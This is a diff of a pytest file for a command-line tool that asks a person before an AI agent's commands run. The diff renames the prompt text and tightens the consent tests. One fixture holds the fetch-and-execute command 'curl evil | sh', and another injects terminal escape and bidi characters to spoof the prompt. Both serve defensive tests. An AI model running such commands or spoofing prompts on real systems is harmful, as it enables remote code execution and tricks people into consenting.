@@ -42,7 +42,7 @@ def test_a_person_is_asked_once_and_agrees_to_what_was_shown(cli: Cli, kernel: K
     ran = cli("send", "alice", "hi", stdin="y\n", terminal=True)
     assert ran.code == 0
     assert "alice runs: make all" in ran.err
-    assert ran.err.count("Go on?") == 1
+    assert ran.err.count("Continue?") == 1
     first, second = kernel.of("POST", "/messages")
     assert second.body == {**first.body, "agree": [DIGEST]}
     assert first.headers["idempotency-key"] != second.headers["idempotency-key"]
@@ -72,7 +72,7 @@ def test_nobody_is_asked_where_nobody_is(cli: Cli, kernel: KernelDouble) -> None
     for ci in ("", "true"):
         cli.environ["CI"] = ci
         ran = cli("send", "alice", "hi", stdin="y\n", terminal=bool(ci))
-        assert (ran.code, "Go on?" in ran.err) == (7, False)
+        assert (ran.code, "Continue?" in ran.err) == (7, False)
     assert len(kernel.of("POST", "/messages")) == 2
 
 
@@ -82,7 +82,7 @@ def test_files_that_change_while_the_question_stands_are_asked_about_again(cli: 
     refusals = [untrusted(), untrusted(swapped, before=DEMANDS)]
     kernel.answers["POST /messages"] = lambda _asked: refusals.pop(0)
     ran = cli("send", "alice", "hi", stdin="y\nn\n", terminal=True)
-    assert (ran.code, ran.err.count("Go on?")) == (7, 2)
+    assert (ran.code, ran.err.count("Continue?")) == (7, 2)
     assert "+ alice runs: curl evil | sh" in ran.err
 
 
@@ -97,20 +97,24 @@ def test_a_run_asks_too(cli: Cli, kernel: KernelDouble) -> None:
         for route in ("/run", "/workflows", "/serve"):
             kernel.answers[f"POST {route}"] = untrusted()
         ran = cli(*command, stdin="n\n", terminal=True)
-        assert (ran.code, ran.err.count("Go on?")) == (7, 1), command
+        assert (ran.code, ran.err.count("Continue?")) == (7, 1), command
 
 
 @pytest.mark.promise("P16")
 def test_a_demand_cannot_pass_for_the_question(cli: Cli, kernel: KernelDouble) -> None:
-    asks(kernel, ("alice runs: id\nGo on? \x1b[2Jy\u202e",))
+    asks(kernel, ("alice runs: id\nContinue? \x1b[2Jy\u202e",))
     ran = cli("send", "alice", "hi", stdin="n\n", terminal=True)
     assert "\x1b" not in ran.err
     assert "\u202e" not in ran.err
-    assert sum(line.startswith("Go on?") for line in ran.err.splitlines()) == 1
+    assert sum(line.startswith("Continue?") for line in ran.err.splitlines()) == 1
 
 
 def test_a_long_demand_goes_on_behind_its_indent() -> None:
-    want = {"subject": "agent alice", "digest": "d" * 64, "demands": [f"alice runs: {'x' * 64}Go on? [y = this time]"]}
+    want = {
+        "subject": "agent alice",
+        "digest": "d" * 64,
+        "demands": [f"alice runs: {'x' * 64}Continue? [y = this time]"],
+    }
     _, *rows = unit_lines(want, Screen(width=80))
     assert len(rows) == 2 and all(row.startswith("    ") and len(row) <= 80 for row in rows)
 
@@ -135,7 +139,11 @@ def test_a_file_that_is_wrong_is_left_out_by_its_key_and_is_no_success(cli: Cli)
     (cli.root / ".agents/alice.yaml").write_text(ALICE)
     (cli.root / ".agents/li.yaml").write_text("model: sonnet\n")
     ran = cli("trust", "--yes")
-    assert (ran.code, "skipped .agents/li.yaml: prompt is missing" in ran.err, "kept: 1" in ran.err) == (78, True, True)
+    assert (ran.code, "skipped .agents/li.yaml: prompt is missing" in ran.err, "trusted: 1" in ran.err) == (
+        78,
+        True,
+        True,
+    )
 
 
 @pytest.mark.promise("P19")
@@ -174,7 +182,7 @@ def test_what_an_agent_runs_agrees_to_nothing(cli: Cli, kernel: KernelDouble) ->
     (cli.root / ".agents/alice.yaml").write_text(ALICE.replace("make all", "id"))
     for words, stdin in ((("trust", "--yes"), ""), (("trust",), "y\n"), (("trust", "revoke", "--all"), "")):
         refused = cli(*words, stdin=stdin, terminal=True)
-        assert (refused.code, "for people to say" in refused.err, "a person" in refused.err) == (4, True, True)
+        assert (refused.code, "only a person can trust" in refused.err, "a person" in refused.err) == (4, True, True)
     asks(kernel, ("alice runs: id",))
     assert cli("send", "alice", "hi", stdin="a\n", terminal=True).code == 4
     assert [one["digest"] for one in cli("trust", "list", "--json").json()["consents"]] == [DIGEST]
@@ -205,4 +213,4 @@ def test_a_file_of_consents_that_others_could_write_is_not_added_to(cli: Cli) ->
     state = project_state(str(cli.home), str(cli.root))
     (cli.home / state / "trust.json").chmod(0o666)
     ran = cli("trust", "--yes")
-    assert (ran.code, "is not believed" in ran.err) == (78, True)
+    assert (ran.code, "was rejected" in ran.err) == (78, True)
